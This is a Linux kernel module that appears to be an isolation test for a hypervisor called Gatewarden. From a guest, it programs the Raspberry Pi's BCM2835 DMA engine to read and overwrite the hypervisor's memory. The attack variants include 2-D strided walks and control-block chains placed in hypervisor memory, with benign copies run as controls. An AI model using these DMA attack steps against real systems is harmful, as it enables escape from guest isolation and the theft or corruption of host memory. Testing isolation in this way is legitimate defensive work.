// SPDX-License-Identifier: GPL-2.0
/*
 * gwbcmdma: the guest kernel, as an attacker, programs the Raspberry Pis' legacy DMA engine
 * (BCM2835 "DMA", no IOMMU in front of it) to copy the hypervisor's memory out or overwrite it
 * (docs/threat-model.md, docs/dma-mediation.md).
 *
 * Each step builds one control-block chain in a coherent buffer of its own, writes its bus
 * address to the channel's CONBLK_AD, activates the channel and waits up to 100 ms for the
 * engine to finish. One line per step: the step's name, whether the engine finished, the
 * channel's CS and CONBLK_AD as read, and the first bytes of the destination buffer. Benign
 * steps (copies between the module's own buffers, 1-D, 2-D and a two-block chain, through each
 * RAM alias) must work so that the test can fail; the attacks aim at `hv` (the hypervisor's
 * image): reads into a guest buffer, writes of a marker over it, 2-D rows whose stride walks
 * from guest RAM into it, and chains whose first or next block lies in it.
 * Never stays loaded: the verdict is the test's (tests/tests/qemu_rpi4.rs), from these lines,
 * the hypervisor's console and the hypervisor's memory read from the host.
 */

#include <linux/delay.h>
#include <linux/dma-mapping.h>
#include <linux/io.h>
#include <linux/module.h>
#include <linux/platform_device.h>
#include <linux/slab.h>

static unsigned long regs;
module_param(regs, ulong, 0444);
MODULE_PARM_DESC(regs, "guest-physical base of the DMA engine's channels 0-14 (0x7e007000 on the bus)");

static int chan = 6;
module_param(chan, int, 0444);
MODULE_PARM_DESC(chan, "channel to use (one Linux does not)");

static unsigned long hv;
module_param(hv, ulong, 0444);
MODULE_PARM_DESC(hv, "ARM physical address in the hypervisor's memory to aim at");

static unsigned long ram_start;
module_param(ram_start, ulong, 0444);
MODULE_PARM_DESC(ram_start, "the start of guest RAM (the 2-D walk starts just above it)");

#define CS 0x00
#define CONBLK_AD 0x04
#define CS_ACTIVE (1u << 0)
#define CS_END (1u << 1)
#define CS_RESET (1u << 31)
#define TI_TDMODE (1u << 1)
#define TI_DEST_INC (1u << 4)
#define TI_SRC_INC (1u << 8)
#define LEN 64
#define MARKER 0x47574d4b /* "KMWG" */

struct cb {
	u32 ti, source, dest, len, stride, next, pad[2];
};

static void __iomem *ch;
static struct device *dev;
static struct cb *cbs;        /* coherent: the blocks */
static dma_addr_t cbs_bus;
static u8 *src, *dst;          /* coherent: a source filled with a pattern, a destination */
static dma_addr_t src_bus, dst_bus;

static const u32 aliases[] = { 0x00000000, 0x40000000, 0x80000000, 0xc0000000 };

/* The bus address of ARM physical `pa` through RAM alias `a`. */
static u32 bus(u32 a, phys_addr_t pa)
{
	return a | ((u32)pa & 0x3fffffff);
}

static u32 bus_of(u32 a, dma_addr_t d)
{
	return a | ((u32)d & 0x3fffffff);
}

static void reset_buffers(void)
{
	int i;

	for (i = 0; i < 4096; i++) {
		src[i] = (u8)(i * 7 + 1);
		dst[i] = 0xee;
	}
}

/* Run the chain whose first block is at bus address `first`; report one line, with whether the
 * destination's first `n` bytes now equal the source's. */
static void run_n(const char *step, u32 first, int n)
{
	u32 cs, ad;
	int i, done = 0;

	iowrite32(CS_RESET, ch + CS);
	udelay(10);
	wmb();
	iowrite32(first, ch + CONBLK_AD);
	iowrite32(CS_ACTIVE | CS_END, ch + CS);
	for (i = 0; i < 100; i++) {
		if (!(ioread32(ch + CS) & CS_ACTIVE) && ioread32(ch + CONBLK_AD) == 0) {
			done = 1;
			break;
		}
		msleep(1);
	}
	cs = ioread32(ch + CS);
	ad = ioread32(ch + CONBLK_AD);
	rmb();
	pr_info("gwbcmdma: %s: %s cs %#x conblk %#x dst %*phN src-match %d\n", step,
		done ? "finished" : "stuck", cs, ad, 16, dst, !memcmp(dst, src, n));
	iowrite32(CS_RESET, ch + CS);
}

static void run(const char *step, u32 first)
{
	run_n(step, first, 16);
}

static void one(int k, u32 ti, u32 s, u32 d, u32 len, u32 stride, u32 next)
{
	cbs[k] = (struct cb){ .ti = ti, .source = s, .dest = d, .len = len,
			      .stride = stride, .next = next };
}

static void steps(void)
{
	char name[64];
	u32 a, first;
	int i;

	for (i = 0; i < 4; i++) {
		a = aliases[i];
		first = bus_of(0xc0000000, cbs_bus);
		/* Benign 1-D copy through alias a. */
		reset_buffers();
		one(0, TI_SRC_INC | TI_DEST_INC, bus_of(a, src_bus), bus_of(a, dst_bus), LEN, 0, 0);
		snprintf(name, sizeof(name), "benign-1d-%08x", a);
		run(name, first);
		/* Read the hypervisor into a guest buffer. */
		reset_buffers();
		one(0, TI_SRC_INC | TI_DEST_INC, bus(a, hv), bus_of(a, dst_bus), LEN, 0, 0);
		snprintf(name, sizeof(name), "hv-read-1d-%08x", a);
		run(name, first);
		/* Write the source pattern over the hypervisor. */
		reset_buffers();
		one(0, TI_SRC_INC | TI_DEST_INC, bus_of(a, src_bus), bus(a, hv), LEN, 0, 0);
		snprintf(name, sizeof(name), "hv-write-1d-%08x", a);
		run(name, first);
		/* 2-D: 4 rows of 16 bytes, reading the hypervisor / writing over it. */
		reset_buffers();
		one(0, TI_TDMODE | TI_SRC_INC | TI_DEST_INC, bus(a, hv), bus_of(a, dst_bus),
		    (3 << 16) | 16, 0, 0);
		snprintf(name, sizeof(name), "hv-read-2d-%08x", a);
		run(name, first);
		reset_buffers();
		one(0, TI_TDMODE | TI_SRC_INC | TI_DEST_INC, bus_of(a, src_bus), bus(a, hv),
		    (3 << 16) | 16, 0, 0);
		snprintf(name, sizeof(name), "hv-write-2d-%08x", a);
		run(name, first);
	}
	first = bus_of(0xc0000000, cbs_bus);
	/* Benign 2-D: 4 rows of 16 bytes, each row 16 bytes further on in the destination. */
	reset_buffers();
	one(0, TI_TDMODE | TI_SRC_INC | TI_DEST_INC, bus_of(0xc0000000, src_bus),
	    bus_of(0xc0000000, dst_bus), (3 << 16) | 16, 0, 0);
	run("benign-2d", first);
	/* 2-D from just above guest RAM's start: 256 rows of 4 bytes, the source stride
	 * (-32768) taking each row 32 KiB further down, into the hypervisor below guest RAM. */
	reset_buffers();
	one(0, TI_TDMODE | TI_SRC_INC | TI_DEST_INC, bus(0xc0000000, ram_start + 0x1000),
	    bus_of(0xc0000000, dst_bus), (255 << 16) | 4, 0x8000, 0);
	run("hv-read-2d-stride", first);
	/* Benign chain of two blocks: the second copies the next 16 bytes. */
	reset_buffers();
	one(0, TI_SRC_INC | TI_DEST_INC, bus_of(0xc0000000, src_bus),
	    bus_of(0xc0000000, dst_bus), 16, 0, bus_of(0xc0000000, cbs_bus + 32));
	one(1, TI_SRC_INC | TI_DEST_INC, bus_of(0xc0000000, src_bus + 16),
	    bus_of(0xc0000000, dst_bus + 16), 16, 0, 0);
	run_n("benign-chain", first, 32);
	/* A chain whose next block is in the hypervisor's memory. */
	reset_buffers();
	one(0, TI_SRC_INC | TI_DEST_INC, bus_of(0xc0000000, src_bus),
	    bus_of(0xc0000000, dst_bus), 16, 0, bus(0xc0000000, hv));
	run("hv-next-block", first);
	/* The first block itself in the hypervisor's memory. */
	reset_buffers();
	run("hv-first-block", bus(0xc0000000, hv));
}

static int __init gwbcmdma_init(void)
{
	static struct platform_device *pdev;
	int err = 0;

	if (!regs || !hv || chan < 0 || chan > 14)
		return -EINVAL;
	pdev = platform_device_register_simple("gwbcmdma", -1, NULL, 0);
	if (IS_ERR(pdev))
		return PTR_ERR(pdev);
	dev = &pdev->dev;
	/* The legacy engine addresses 32 bits (one GiB of RAM, four aliases). */
	err = dma_coerce_mask_and_coherent(dev, DMA_BIT_MASK(30));
	if (err)
		goto out;
	cbs = dma_alloc_coherent(dev, 4096, &cbs_bus, GFP_KERNEL);
	src = dma_alloc_coherent(dev, 4096, &src_bus, GFP_KERNEL);
	dst = dma_alloc_coherent(dev, 4096, &dst_bus, GFP_KERNEL);
	ch = ioremap(regs + 0x100 * chan, 0x100);
	if (!cbs || !src || !dst || !ch) {
		err = -ENOMEM;
		goto free;
	}
	memset(cbs, 0, 4096);
	steps();
	pr_info("gwbcmdma: done\n");
	err = -ECANCELED;
free:
	if (ch)
		iounmap(ch);
	if (cbs)
		dma_free_coherent(dev, 4096, cbs, cbs_bus);
	if (src)
		dma_free_coherent(dev, 4096, src, src_bus);
	if (dst)
		dma_free_coherent(dev, 4096, dst, dst_bus);
out:
	platform_device_unregister(pdev);
	return err;
}

module_init(gwbcmdma_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Gatewarden isolation test: the guest kernel aims the Raspberry Pi's DMA engine at the hypervisor");
